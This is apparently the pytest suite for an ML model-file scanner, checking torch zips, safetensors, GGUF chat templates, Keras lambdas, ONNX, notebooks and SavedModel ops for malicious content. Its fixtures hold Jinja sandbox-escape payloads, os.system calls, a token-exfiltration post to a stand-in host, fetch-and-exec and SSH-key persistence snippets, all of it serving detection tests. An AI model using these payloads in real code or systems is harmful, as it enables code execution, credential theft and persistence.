"""Format inspectors one by one: what each reports and why."""

from __future__ import annotations

import io
import json
import marshal
import struct
import zipfile

import numpy as np
import pytest
from mlsleuth.parsers.models import inspect_bytes
from mlsleuth.parsers.models.formats import gguf as gguf_fmt
from mlsleuth.parsers.models.formats.keras import decode_lambda, marshal_strings
from mlsleuth.parsers.models.formats.onnx import escapes_directory
from mlsleuth.parsers.models.jinja_check import scan_template
from mlsleuth.parsers.models.zipread import open_zip

from mlsleuth.fixturehost.formats import keras_files as K
from mlsleuth.fixturehost.formats import misc_files as M
from mlsleuth.fixturehost.formats import pickles as P
from mlsleuth.fixturehost.formats import torch_zip as Z


def rules(result) -> set[str]:
    return {f.rule_id for f in result.findings}


# -- torch zip writer fidelity -----------------------------------------------------------------
def test_torch_zip_is_byte_faithful_layout():
    pk, st = P.benign_state_dict({"w": ("float32", (3, 3))})
    data = Z.torch_checkpoint_bytes(pk, st)
    z = zipfile.ZipFile(io.BytesIO(data))
    assert z.testzip() is None
    assert z.namelist() == ["archive/data.pkl", "archive/.format_version", "archive/.storage_alignment",
                            "archive/byteorder", "archive/data/0", "archive/version", "archive/.data/serialization_id"]
    for info in z.infolist():
        assert info.compress_type == zipfile.ZIP_STORED and info.date_time == (1980, 0, 0, 0, 0, 0)
        assert info.flag_bits & 0x808 == 0x808  # data descriptor + utf-8, as miniz writes
        name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
        assert (info.header_offset + 30 + name_len + extra_len) % 64 == 0
        assert data[info.header_offset + 30 + name_len:][:2] == b"FB"
    assert z.read("archive/version") == b"3\n"
    assert data.rfind(b"PK\x06\x06") > 0  # zip64 end record always present (MZ_ZIP_FLAG_WRITE_ZIP64)


def test_zip_reader_reports_irregularities_and_reads_anyway():
    pk, st = P.benign_state_dict({"w": ("float32", (2,))})
    data = bytearray(Z.torch_checkpoint_bytes(pk, st))
    cd = data.find(b"PK\x01\x02")
    data[cd + 16:cd + 20] = b"\0\0\0\0"
    arc = open_zip(bytes(data))
    e = arc.get("archive/data.pkl")
    assert arc.read(e) == pk
    assert any("CRC" in p for p in e.problems)
    cut = open_zip(bytes(data[:cd]))
    assert not cut.central_found and cut.get("archive/data.pkl") is not None


# -- safetensors -------------------------------------------------------------------------------
def test_safetensors_validation():
    good = M.safetensors_bytes({"a": np.zeros((2, 2), "float32")}, {"format": "pt"})
    r = inspect_bytes(good, "m.safetensors")
    assert r.verdict == "clean" and "safetensors-metadata" in rules(r)
    wrong_size = json.dumps({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}).encode()
    r = inspect_bytes(M.raw_safetensors(len(wrong_size), wrong_size, b"\0" * 8), "x.safetensors")
    assert r.verdict == "suspicious" and any("needs 12 bytes" in f.message for f in r.findings)
    beyond = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    r = inspect_bytes(M.raw_safetensors(len(beyond), beyond, b"\0" * 4), "x.safetensors")
    assert any("beyond the data region" in f.message for f in r.findings)
    r = inspect_bytes(M.raw_safetensors(2**63, b"{}"), "x.safetensors")
    assert r.verdict == "suspicious"


# -- GGUF and templates ------------------------------------------------------------------------
def test_gguf_reader_matches_the_gguf_package(tmp_path):
    gguf = pytest.importorskip("gguf")
    path = tmp_path / "t.gguf"
    M.write_gguf(path, "llama", {"general.name": "t", "llama.context_length": 64, "tokenizer.chat_template": "{{ x }}",
                                 "tokenizer.ggml.tokens": ["a", "b", "c"]},
                 {"tok.weight": np.ones((4, 8), "float32")})
    mine = gguf_fmt.read_header(path.read_bytes())
    theirs = gguf.GGUFReader(str(path))
    assert set(mine.kv) == {k for k in theirs.fields if not k.startswith("GGUF.")}
    assert [t[0] for t in mine.tensors] == [t.name for t in theirs.tensors]
    assert mine.kv["tokenizer.chat_template"] == "{{ x }}"
    assert mine.kv["tokenizer.ggml.tokens"].count == 3


@pytest.mark.parametrize("template", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum|attr('__glo' ~ 'bals__') }}",
    "{{ x['__cl' + 'ass__'] }}",
    "{{ '{0.__class__}'|format(x) }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
])
def test_template_escapes_detected(template):
    hits, err = scan_template(template)
    assert err is None and hits


@pytest.mark.parametrize("template", [
    "{% for m in messages %}{{ m['role'] }}: {{ m['content'] | trim }}{% endfor %}",
    "{% if messages|length > 0 %}{{ raise_exception('x') }}{% endif %}{% generation %}{{ a }}{% endgeneration %}",
    "{%- for m in messages %}{%- if loop.first %}{% continue %}{% endif %}{{ m.content }}{%- endfor %}",
])
def test_benign_templates(template):
    hits, err = scan_template(template)
    assert err is None and not hits


def test_template_parse_error_is_suspicious():
    r = inspect_bytes(json.dumps({"chat_template": "{% for x in %}"}).encode(), "tokenizer_config.json")
    assert r.verdict == "suspicious" and "chat-template-unparseable" in rules(r)


# -- Keras --------------------------------------------------------------------------------------
def test_lambda_bytecode_is_listed_not_run():
    names, listing, err = decode_lambda(K.lambda_code_b64("lambda x: __import__('os').system('id') or x"))
    assert err is None and {"__import__", "system"} <= set(names)
    assert any("system" in line for line in listing)


def test_lambda_from_another_python_version_falls_back_to_strings():
    raw = bytearray(marshal.dumps(compile("import os\nos.system('id')", "f", "exec")))
    raw[0] = 0xFF  # not a marshal type code: loads fails like a foreign-version code object
    names, _, err = decode_lambda(__import__("base64").b64encode(bytes(raw)).decode())
    assert err and "system" in names
    assert "system" in marshal_strings(bytes(raw))


def test_keras_config_at_any_depth(tmp_path):
    deep = K.lambda3("deep", "lambda x: __import__('os').system('id')")
    for _ in range(6):
        deep = {"module": "keras.layers", "class_name": "Bidirectional", "config": {"name": "w", "layer": deep}}
    path = tmp_path / "m.keras"
    K.write_keras3(path, K.sequential3([deep], 4))
    r = inspect_bytes(path.read_bytes(), "m.keras")
    assert r.verdict == "malicious" and "keras-lambda" in rules(r)


# -- ONNX --------------------------------------------------------------------------------------
@pytest.mark.parametrize("loc,bad", [("w.bin", False), ("sub/w.bin", False), ("../w.bin", True),
                                     ("a/../../w", True), ("/etc/passwd", True), ("C:\\x", True),
                                     ("a/./b/../c", False)])
def test_external_data_paths(loc, bad):
    assert (escapes_directory(loc) is not None) is bad


def test_onnx_subgraph_nodes_are_walked():
    inner_graph = M.pb_field(1, M.onnx_node("Evil", ["a"], ["b"], domain="x.y"))
    attr = M.pb_field(1, "then_branch") + M.pb_field(6, inner_graph)
    node = M.onnx_node("If", ["c"], ["d"]) + M.pb_field(5, attr)
    r = inspect_bytes(M.onnx_model([node], []), "m.onnx")
    assert "onnx-custom-domain" in rules(r)


# -- code ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("src,rule", [
    ("import os\nos.system('id')", "code-process-spawn"),
    ("from subprocess import Popen as P\nP(['id'])", "code-process-spawn"),
    ("import base64\nexec(base64.b64decode('aWQ='))", "code-obfuscated-exec"),
    ("import requests, os\nt=os.environ['HF_TOKEN']\nrequests.post('http://x', data=t)", "code-credential-exfiltration"),
    ("import urllib.request as u\nexec(u.urlopen('http://x').read())", "code-fetch-and-exec"),
    ("open('/home/u/.ssh/authorized_keys', 'a').write('k')", "code-persistence"),
    ("import ctypes\nctypes.CDLL('libevil.so')", "code-native"),
    ("import importlib\nimportlib.import_module(name)", "code-dynamic-import"),
])
def test_python_rules(src, rule):
    r = inspect_bytes(src.encode(), "modeling_x.py")
    assert rule in rules(r) and r.verdict in ("malicious", "suspicious")


def test_benign_python_is_clean():
    src = "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n    def forward(self, x):\n        return x * 2\n"
    assert inspect_bytes(src.encode(), "modeling_m.py").verdict == "clean"


def test_notebook_cells(tmp_path):
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "source": "os.system('not code')", "metadata": {}},
        {"cell_type": "code", "source": ["%matplotlib inline\n", "import subprocess\n", "subprocess.run(['id'])"],
         "metadata": {}, "outputs": [], "execution_count": 1}]}
    r = inspect_bytes(json.dumps(nb).encode(), "n.ipynb")
    assert r.format == "notebook" and "code-process-spawn" in rules(r)
    assert all("cell 1" in f.location for f in r.findings if f.rule_id == "code-process-spawn")


# -- numpy -------------------------------------------------------------------------------------
def test_npy_header_checks():
    buf = io.BytesIO()
    np.save(buf, np.arange(10, dtype="int64"))
    data = buf.getvalue()
    assert inspect_bytes(data, "a.npy").verdict == "clean"
    assert inspect_bytes(data[:-8], "a.npy").verdict == "suspicious"
    assert inspect_bytes(b"\x93NUMPY\x01\x00\xff\xff{", "a.npy").verdict == "suspicious"


# -- misc ----------------------------------------------------------------------------------------
def test_unknown_binary_is_unsupported_not_clean():
    r = inspect_bytes(bytes(range(256)) * 4, "weights.bin")
    assert r.verdict == "unsupported"


def test_text_and_empty_files():
    assert inspect_bytes(b"", "x.pt").verdict == "clean"
    assert inspect_bytes(b"# readme\n", "README.md").verdict == "clean"


def test_savedmodel_ops():
    pb = M.saved_model_pb([M.tf_node("r", "ReadFile"), M.tf_node("m", "MatMul")])
    r = inspect_bytes(pb, "saved_model.pb")
    assert "tf-dangerous-op" in rules(r) and r.verdict == "malicious"


@pytest.mark.parametrize("header_len", [0x80, 0x280, 0x580])
def test_safetensors_whose_length_byte_reads_as_pickle_proto_is_clean(header_len):
    # 0x80 is pickle's PROTO opcode: a header length ending in 0x80 must not make a benign
    # safetensors file a "broken pickle" (seen on a real all-MiniLM-L6-v2 header).
    arr = np.zeros(4, dtype=np.float32)
    body = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    body += b" " * (header_len - len(body))
    result = inspect_bytes(M.raw_safetensors(header_len, body, arr.tobytes()), "model.safetensors")
    assert (result.format, result.verdict) == ("safetensors", "clean"), result.findings
    nameless = inspect_bytes(M.raw_safetensors(header_len, body, arr.tobytes()), "blob")
    assert (nameless.format, nameless.verdict) == ("safetensors", "clean"), nameless.findings
